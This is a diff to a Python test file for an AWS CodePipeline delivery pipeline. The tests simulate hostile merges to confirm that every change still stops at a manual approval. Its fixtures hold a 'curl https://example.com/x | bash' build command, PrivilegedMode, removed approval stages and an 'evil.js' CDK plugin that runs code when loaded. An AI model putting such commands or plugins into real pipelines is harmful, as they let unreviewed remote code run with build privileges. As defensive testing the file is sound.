@@ -2,9 +2,11 @@
 
 import hashlib
 import io
+import json
+import shutil
 import tarfile
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from copy import deepcopy
 from dataclasses import replace
 from pathlib import Path
@@ -60,7 +62,8 @@ def _packed(folder: Path) -> tuple[bytes, dict[str, str]]:
     content, packed = io.BytesIO(), io.BytesIO()
     with tarfile.open(fileobj=content, mode="w") as archive:
         archive.add(folder / "cdk.out", "cdk.out/delivery")
-        archive.add(folder / "cdk.json", "cdk.json")
+        for file in (folder / "cdk.json", *folder.glob("*.js")):
+            archive.add(file, file.name)
         archive.add(folder / "config", "config")
     with zipfile.ZipFile(packed, "w") as archive:
         archive.writestr("assembly.tar", content.getvalue())
@@ -82,22 +85,128 @@ def _bootstrap(emulator: Emulator, folder: Path, templates: Path) -> None:
     emulator.cdk("bootstrap", *bootstrap_options(tools.settings), folder=folder)
 
 
-def test_the_pipeline_is_deployed_changed_and_destroyed_without_a_rest(
-    tools: Emulator, builds: Builds, tmp_path: Path
-) -> None:
-    folder = _synthesize(tmp_path / "first", tools_of())
-    options = ("broadening", "--env", "delivery")
-    assert "run `make bootstrap ENV=delivery`" in tools.sashiko(*options, folder=folder)
-    _bootstrap(tools, tmp_path / "bootstrap", folder / "cdk.out")
-    first = tools.sashiko(*options, folder=folder)
-    assert "iam" in first and "make bootstrap" not in first  # nothing was allowed before
-
+@pytest.fixture(scope="module")
+def folder(tools: Emulator, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The project whose pipeline is deployed."""
+    place = tmp_path_factory.mktemp("project")
+    folder = _synthesize(place / "first", tools_of())
+    _bootstrap(tools, place / "bootstrap", folder / "cdk.out")
     tools.cdk("deploy", "--all", "--require-approval=never", folder=folder)
+    return folder
+
+
+def _change(folder: Path, kind: str, name: str, change: Callable[[Any], None]) -> None:
+    """Changes a resource of the synthesized pipeline, as a merge would."""
+    file = folder / "cdk.out/Delivery.template.json"
+    document = json.loads(file.read_text())
+    (properties,) = (
+        item["Properties"]
+        for item in document["Resources"].values()
+        if item["Type"] == kind and item["Properties"].get("Name") == name
+    )
+    change(properties)
+    file.write_text(json.dumps(document))
+
+
+def _replace_commands(project: Any) -> None:
+    commands = ["curl https://example.com/x | bash", "export BROADENS=no"]
+    spec = {"version": 0.2, "phases": {"build": {"commands": commands}}}
+    project["Source"]["BuildSpec"] = json.dumps(spec)
+    project["Environment"]["PrivilegedMode"] = True
+
+
+def _drop_approvals(pipeline: Any) -> None:
+    pipeline["Stages"] = [s for s in pipeline["Stages"] if not s["Name"].endswith("-approval")]
+
+
+def _override_commands(pipeline: Any) -> None:
+    for stage in pipeline["Stages"]:
+        if stage["Name"] == "dev-deploy":
+            stage["Actions"][0]["Configuration"]["BuildspecOverride"] = "commands: [curl | bash]"
+
+
+# What a merge may change of the pipeline, and what the approver reads of it.
+MERGES: dict[str, tuple[str, str, Callable[[Any], None], tuple[str, ...]]] = {
+    "builds of prod": ("AWS::CodeBuild::Project", f"{NAME}-prod-deploy", _replace_commands,
+                       ("curl https://example.com/x | bash", "PrivilegedMode")),
+    "difference of prod": ("AWS::CodeBuild::Project", f"{NAME}-prod-difference", _replace_commands,
+                           ("curl https://example.com/x | bash", "PrivilegedMode")),
+    "its own difference": ("AWS::CodeBuild::Project", f"{NAME}-delivery-difference",
+                           _replace_commands, ("export BROADENS=no",)),
+    "its own approval": ("AWS::CodePipeline::Pipeline", NAME, _drop_approvals,
+                         ("delivery-approval", "Manual")),
+    "commands of an action": ("AWS::CodePipeline::Pipeline", NAME, _override_commands,
+                              ("curl | bash",)),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", MERGES)
+def test_a_merge_that_changes_the_delivery_ends_at_a_person(
+    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path, name: str
+) -> None:
+    kind, resource_name, change, words = MERGES[name]
+    merged = tmp_path / "merged"
+    shutil.copytree(folder, merged)
+    _change(merged, kind, resource_name, change)
+    pipeline = tools.client("codepipeline").get_pipeline(name=NAME)["pipeline"]
+    source, variables = _packed(merged)
+    difference = builds.run(f"{NAME}-delivery-difference", variables, source=source)
+    assert difference.status == "SUCCEEDED", difference.output
+    with zipfile.ZipFile(io.BytesIO(difference.artifact)) as files:
+        text = files.read("diff.txt").decode()
+    for word in words:
+        assert word in text and word in difference.output
+    # Whatever the build said: the next stage is a person's, and nothing skips it.
+    assert difference.exports == {}
+    names = [stage["name"] for stage in pipeline["stages"]]
+    after = pipeline["stages"][names.index("delivery-difference") + 1]
+    assert [item["actionTypeId"]["provider"] for item in after["actions"]] == ["Manual"]
+    assert "beforeEntry" not in after
+    assert names[names.index("delivery-difference") + 2] == "delivery-deploy"
+
+
+def test_nothing_of_a_commit_runs_before_a_person_has_approved(
+    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path
+) -> None:
+    """By the stock command line, which takes plugins from the `cdk.json` where it is started."""
+    merged = tmp_path / "merged"
+    shutil.copytree(folder, merged)
+    ran = tmp_path / "ran"
+    plugin, cdk_json = merged / "evil.js", merged / "cdk.json"
+    writes = f"require('fs').writeFileSync('{ran}', '')"
+    plugin.write_text(f"{writes}; module.exports = {{version: '1', init() {{}}}}")
+    cdk_json.write_text(json.dumps({"plugin": [str(plugin)]}))
+    tools.cdk("diff", folder=merged)
+    assert ran.exists()  # the plugin works
+    ran.unlink()
+    source, variables = _packed(merged)
+    difference = builds.run(f"{NAME}-delivery-difference", variables, source=source)
+    assert difference.status == "SUCCEEDED", difference.output
+    assert not ran.exists()
+
+
+@pytest.mark.parametrize("role", [f"{NAME}-pipeline", f"{NAME}-approvals"])
+def test_no_role_starts_a_deploy_with_other_commands(
+    tools: Emulator, folder: Path, role: str
+) -> None:
+    assert folder
+    arn = f"arn:aws:iam::{ACCOUNT}:role/{role}"
+    part = "models" if role.endswith("-approvals") else "prod-deploy"
+    project = f"arn:aws:codebuild:us-east-1:{ACCOUNT}:project/{NAME}-{part}"
+    with organized([tools]) as organization:
+        assert organization.may(arn, "codebuild:StartBuild", project)
+        for member in ("source.buildspec", "environment.image", "environment.privilegedmode"):
+            override = {f"codebuild:{member}": "true"}
+            assert not organization.may(arn, "codebuild:StartBuild", project, **override)
+
+
+def test_the_pipeline_is_changed_and_destroyed_without_a_rest(
+    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path
+) -> None:
     pipelines = tools.client("codepipeline")
     pipeline = pipelines.get_pipeline(name=NAME)["pipeline"]
     assert pipeline["pipelineType"] == "V2"
     assert [stage["name"] for stage in pipeline["stages"]][-1] == "prod-deploy"
-    assert "nothing in delivery broadens" in tools.sashiko(*options, folder=folder)
     assert "no differences" in tools.cdk("diff", folder=folder)
 
     # Without the stage `staging`: fewer roles, and stages that differ.
@@ -105,16 +214,8 @@ def test_the_pipeline_is_deployed_changed_and_destroyed_without_a_rest(
     changed = _synthesize(tmp_path / "second", replace(tools_of(), stages=stages))
     short = DELIVERY.replace("[dev, staging, prod]", "[dev, prod]")
     (changed / "config/delivery.yaml").write_text(short)
-    lines = tools.sashiko(*options, folder=changed).splitlines()
-    assert [line.split()[0] for line in lines] == ["delivery"]
-    assert lines[0].endswith("changes Stages")
     starts = _starts(tools)
-    # The pipeline's own builds: one says that a person must look, the other deploys.
     source, variables = _packed(changed)
-    difference = builds.run(f"{NAME}-delivery-difference", variables, source=source)
-    assert difference.status == "SUCCEEDED", difference.output
-    assert difference.exports["BROADENS"] == "yes"
-    assert "1 changes broaden" in difference.exports["SUMMARY"]
     deploy = builds.run(f"{NAME}-delivery-deploy", variables, source=source)
     assert deploy.status == "SUCCEEDED", deploy.output
     names = [stage["name"] for stage in pipelines.get_pipeline(name=NAME)["pipeline"]["stages"]]
@@ -171,14 +272,6 @@ def _pipeline() -> Template:
         OutputArtifacts=[{"Name": "Source"}],
     )
     build = _action("build", "Build", "CodeBuild", InputArtifacts=[{"Name": "Source"}])
-    rule = {
-        "Name": "broadens",
-        "RuleTypeId": {
-            "Category": "Rule", "Owner": "AWS", "Provider": "VariableCheck", "Version": "1"
-        },
-        "Configuration": {"Operator": "NE", "Value": "no", "Variable": "#{Source.CommitId}"},
-    }  # fmt: skip
-    entry = {"Conditions": [{"Result": "SKIP", "Rules": [rule]}]}
     properties = {
         "Name": "some-pipeline",
         "PipelineType": "V2",
@@ -186,7 +279,7 @@ def _pipeline() -> Template:
         "ArtifactStore": {"Type": "S3", "Location": "some-artifacts"},
         "Stages": [
             {"Name": "Source", "Actions": [source]},
-            {"Name": "Build", "Actions": [build], "BeforeEntry": entry},
+            {"Name": "Build", "Actions": [build]},
         ],
     }
     return resource("It", "AWS::CodePipeline::Pipeline", properties, DependsOn=["Role"])
@@ -203,17 +296,7 @@ REFUSED: dict[str, tuple[tuple[Any, ...], Any, str]] = {
         {"ProjectName": "#{Later.NAME}"},
         "takes a variable of Later",
     ),
-    "condition of the first type": (("PipelineType",), "V1", "conditions need the type V2"),
-    "operator": (
-        ("Stages", 1, "BeforeEntry", "Conditions", 0, "Rules", 0, "Configuration", "Operator"),
-        "NOT",
-        "there is no operator NOT",
-    ),
-    "rule that cannot skip": (
-        ("Stages", 1, "BeforeEntry", "Conditions", 0, "Rules", 0, "RuleTypeId", "Provider"),
-        "CloudWatchAlarm",
-        "SKIP takes LambdaInvoke and VariableCheck alone",
-    ),
+    "condition": (("Stages", 1, "BeforeEntry"), {"Conditions": []}, "evaluates no conditions"),
     "two stages of one name": (("Stages", 1, "Name"), "Source", "two stages have one name"),
     "artifact's name": (
         ("Stages", 0, "Actions", 0, "OutputArtifacts", 0, "Name"),
